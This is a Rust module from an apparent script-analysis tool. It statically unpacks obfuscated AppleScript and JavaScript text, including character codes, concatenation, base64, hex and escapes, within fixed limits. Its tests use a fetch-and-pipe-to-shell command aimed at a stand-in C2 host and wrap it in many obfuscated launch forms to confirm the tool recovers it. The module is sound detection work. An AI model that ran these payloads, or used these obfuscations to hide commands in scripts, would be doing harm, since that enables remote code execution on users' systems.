//! What a script hides from who reads it: text spelled as numbers, put together of pieces, in base64, in hexadecimal or
//! disguised. It is unpacked as far as it goes without running anything, and within limits.

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, Anchored, Input, StartKind};

use super::disguised;
use super::encoded::{MAX_BYTES, MIN_TEXT, escapes, runs};
use super::literal::literal;
use super::unpacked::Unpacked;

/// Bytes of a script that are looked through.
const MAX_INPUT: usize = 1 << 20;
/// Layers of packing.
const MAX_DEPTH: usize = 4;
/// Texts of all layers.
const MAX_TEXTS: usize = 32;

/// The texts that are packed in this one, and those in them.
pub(super) fn unpack(text: &str) -> Vec<Unpacked> {
    let source = Unpacked::source(&text[..text.floor_char_boundary(MAX_INPUT)]);
    let mut found = Vec::new();
    let mut has_room = keep(&mut found, &source);
    let mut next = 0;
    for _ in 1..MAX_DEPTH {
        let layer = next..found.len();
        next = layer.end;
        for at in layer {
            let outer = found[at].clone();
            has_room = has_room && keep(&mut found, &outer);
        }
    }
    found
}

/// Keeps the texts that are packed in `outer`; whether there is room for more.
fn keep(found: &mut Vec<Unpacked>, outer: &Unpacked) -> bool {
    let packed =
        [expressions(&outer.text), escapes(&outer.text), runs(&outer.text), disguised::texts(&outer.text)].concat();
    let mut bytes: usize = found.iter().map(|known| known.text.len()).sum();
    for unpacked in packed {
        if found.len() >= MAX_TEXTS || bytes + unpacked.text.len() > MAX_BYTES {
            return false;
        }
        if unpacked.text.len() < MIN_TEXT || unpacked.text == outer.text {
            continue;
        }
        let unpacked = unpacked.through(outer);
        match found.iter_mut().find(|known| known.text == unpacked.text) {
            // It is packed in several places.
            Some(known) => unpacked.parts.into_iter().for_each(|part| known.add(part)),
            None => {
                bytes += unpacked.text.len();
                found.push(unpacked);
            }
        }
    }
    true
}

/// What an expression begins with: a quote, or what makes text of numbers.
static BEGINNINGS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    let quotes = ["\"", "'", "\u{201C}"];
    let names = ["character id", "string id", "ASCII character", "String.fromCharCode", "String.fromCodePoint"];
    let mut builder = AhoCorasick::builder();
    builder.ascii_case_insensitive(true).start_kind(StartKind::Both);
    builder.build(quotes.into_iter().chain(names)).expect("a few short patterns")
});

/// Texts that are put together of literals and numbers: `"cu" & "rl"`, `character id {99, 117}`,
/// `String.fromCharCode(99, 117)`, `ASCII character 99`.
fn expressions(text: &str) -> Vec<Unpacked> {
    let mut scanner = Scanner { quotes: vec!['"', '\'', '\u{201C}'] };
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(start) = BEGINNINGS.find(&text[at..]) {
        at += start.start();
        let term = scanner.expression(&text[at..]);
        if term.weight > 1 {
            let mut unpacked = Unpacked::default();
            unpacked.append(&term.value, at);
            found.push(unpacked);
        }
        at += if term.weight > 0 { term.used } else { text[at..].chars().next().map_or(1, char::len_utf8) };
        if found.len() >= MAX_TEXTS {
            break;
        }
    }
    found
}

/// A literal, numbers, or what is put together of them.
#[derive(Default)]
struct Term {
    value: Unpacked,
    /// Numbers count twice.
    weight: usize,
    /// Bytes of the source.
    used: usize,
}

/// Reads expressions. A quote that does not close once does not close later: it is not looked for again.
struct Scanner {
    quotes: Vec<char>,
}

impl Scanner {
    /// The terms from here on.
    fn expression(&mut self, text: &str) -> Term {
        let mut whole = Term::default();
        let mut next = self.term(text).map(|term| (0, term));
        while let Some((skipped, term)) = next {
            whole.value.append(&term.value, whole.used + skipped);
            whole.weight += term.weight;
            whole.used += skipped + term.used;
            let after = &text[whole.used..];
            let space = |letter: char| letter.is_whitespace() || letter == '\u{AC}';
            let joint = after.trim_start_matches(|letter| space(letter) || letter == ')');
            next = joint.strip_prefix(['&', '+']).and_then(|operand| {
                let operand = operand.trim_start_matches(|letter| space(letter) || letter == '(');
                self.term(operand).map(|term| (after.len() - operand.len(), term))
            });
        }
        whole
    }

    /// A literal or numbers.
    fn term(&mut self, text: &str) -> Option<Term> {
        let first = text.chars().next()?;
        if "\"'\u{201C}".contains(first) {
            if !self.quotes.contains(&first) {
                return None;
            }
            let literal = literal(text, first);
            if literal.is_none() {
                self.quotes.retain(|quote| *quote != first);
            }
            return literal.map(|(value, used)| Term { value, weight: 1, used });
        }
        let name = BEGINNINGS.find(Input::new(text).anchored(Anchored::Yes))?.end();
        let (numbers, used) = numbers(&text[name..])?;
        let letters: String = numbers.into_iter().filter_map(char::from_u32).collect();
        Some(Term { value: Unpacked::encoded(letters, 0..name + used), weight: 2, used: name + used })
    }
}

/// `99`, `(99)`, `{99, 117}`, `(0x63, 117)`, and their bytes.
fn numbers(text: &str) -> Option<(Vec<u32>, usize)> {
    let opened = text.trim_start();
    let is_list = opened.starts_with(['{', '(']);
    let (mut found, mut digits, mut used) = (Vec::new(), String::new(), text.len() - opened.len());
    for (at, letter) in opened.char_indices() {
        match letter {
            '{' | '(' if at == 0 => {}
            letter if letter.is_ascii_alphanumeric() => digits.push(letter),
            ',' | '}' | ')' | ' ' | '\n' | '\t' | '\r' => {
                found.extend(number(&digits));
                let ends = !is_list && !digits.is_empty() || matches!(letter, '}' | ')');
                digits.clear();
                if ends {
                    let closes = is_list && matches!(letter, '}' | ')');
                    return (!found.is_empty()).then_some((found, used + at + usize::from(closes)));
                }
            }
            _ => break,
        }
        if digits.len() > 8 || found.len() > MAX_BYTES {
            return None;
        }
        used = text.len() - opened.len();
    }
    found.extend(number(&digits));
    (!is_list && !found.is_empty()).then_some((found, used + digits.len()))
}

fn number(digits: &str) -> Option<u32> {
    match digits.strip_prefix("0x").or_else(|| digits.strip_prefix("0X")) {
        Some(hex) => u32::from_str_radix(hex, 16).ok(),
        None => digits.parse().ok(),
    }
}

#[cfg(test)]
mod tests {
    use super::super::encoded::STANDARD;
    use super::*;
    use base64::Engine;

    fn unpack(text: &str) -> Vec<String> {
        super::unpack(text).into_iter().map(|unpacked| unpacked.text).collect()
    }

    const COMMAND: &str = "curl -s https://c2.example.org/x | sh";

    #[test]
    fn packed_texts_come_out_as_they_were() {
        let numbers: Vec<String> = COMMAND.bytes().map(|byte| byte.to_string()).collect();
        let hex: String = COMMAND.bytes().map(|byte| format!("{byte:02x}")).collect();
        let escaped = |prefix: &str| COMMAND.bytes().map(|byte| format!("{prefix}{byte:02x}")).collect::<String>();
        let octal: String = COMMAND.bytes().map(|byte| format!("\\\\{byte:03o}")).collect();
        let base64 = STANDARD.encode(COMMAND);
        for packed in [
            format!("run script (character id {{{}}})", numbers.join(", ")),
            format!("do shell script (string id {{{}}})", numbers.join(",")),
            format!("eval(String.fromCharCode({}))", numbers.join(",")),
            numbers.iter().map(|number| format!("(ASCII character {number})")).collect::<Vec<_>>().join(" & "),
            numbers.iter().map(|number| format!("ASCII character {number}")).collect::<Vec<_>>().join(" & "),
            "do shell script \"curl -s \" & \"https://c2.\" & \"example.org/x\" & \" | sh\"".to_owned(),
            "do shell script (\"curl -s \" & \u{AC}\n \"https://c2.example.org/x | \") & (character id 115) & \"h\""
                .to_owned(),
            "app.doShellScript('curl -s https://c2.exa' + 'mple.org/x | sh')".to_owned(),
            format!("do shell script \"echo {base64} | base64 -d | sh\""),
            format!("do shell script \"echo {hex} | xxd -r -p | sh\""),
            format!("eval(unescape('{}'))", escaped("%")),
            format!("eval('{}')", escaped("\\x")),
            format!("eval('{}')", escaped("\\u00")),
            format!("do shell script \"printf '{}' | sh\"", escaped("\\\\x")),
            format!("do shell script \"printf '{octal}' | sh\""),
            format!("do shell script \"rev <<< '{}' | sh\"", COMMAND.chars().rev().collect::<String>()),
        ] {
            assert!(unpack(&packed).iter().any(|text| text == COMMAND), "{packed}: {:?}", unpack(&packed));
        }
    }

    #[test]
    fn what_is_packed_more_than_once_is_unpacked_to_a_depth() {
        let mut packed = COMMAND.to_owned();
        for _ in 0..MAX_DEPTH {
            packed = STANDARD.encode(packed);
        }
        assert_eq!(unpack(&packed).last().map(String::as_str), Some(COMMAND));
        assert_ne!(unpack(&STANDARD.encode(packed)).last().map(String::as_str), Some(COMMAND));
    }

    #[test]
    fn plain_scripts_have_nothing_packed_in_them() {
        for text in [
            "tell application \"Finder\" to get name of every disk",
            "set x to \"a\" & y & \"b\"",
            "do shell script \"/usr/bin/find /Library/Application\\\\ Support -name com.apple.something\"",
            "ObjC.import('Foundation'); $.NSFileManager.defaultManager.contentsOfDirectoryAtPathError('/tmp', null)",
            "the user's file isn't here & it's 'there'",
        ] {
            assert_eq!(unpack(text), [""; 0], "{text}");
        }
    }

    /// Squared, these take minutes.
    #[test]
    fn a_megabyte_of_one_letter_or_of_zeros_costs_no_more_than_its_length() {
        for byte in [b'A', b'0', b'/', b'%', b'"', b'c', b' ', b'-'] {
            assert_eq!(unpack(&String::from_utf8(vec![byte; MAX_INPUT]).unwrap()), [""; 0]);
        }
        let zeros = STANDARD.encode(vec![0; MAX_INPUT / 2]);
        assert_eq!(unpack(&zeros), [""; 0]);
        let wide: Vec<u8> = "a".repeat(MAX_INPUT / 8).encode_utf16().flat_map(u16::to_be_bytes).collect();
        assert!(unpack(&STANDARD.encode(wide)).is_empty(), "longer than all texts together may be");
    }

    #[test]
    fn unpacking_is_bounded() {
        let many = (0..100_000).map(|n| format!("\"a{n}\" & \"bcd\", ")).collect::<String>();
        assert!(unpack(&many).len() <= MAX_TEXTS);
        let long = STANDARD.encode(vec![b'a'; 1 << 20]);
        assert!(unpack(&long).iter().map(String::len).sum::<usize>() <= MAX_BYTES);
        for text in ["\"", "'", "\"a\" &", "character id {", "character id {1,", "%", "\\u", "%4", "\u{201C}", "("] {
            unpack(&text.repeat(10_000));
        }
    }
}
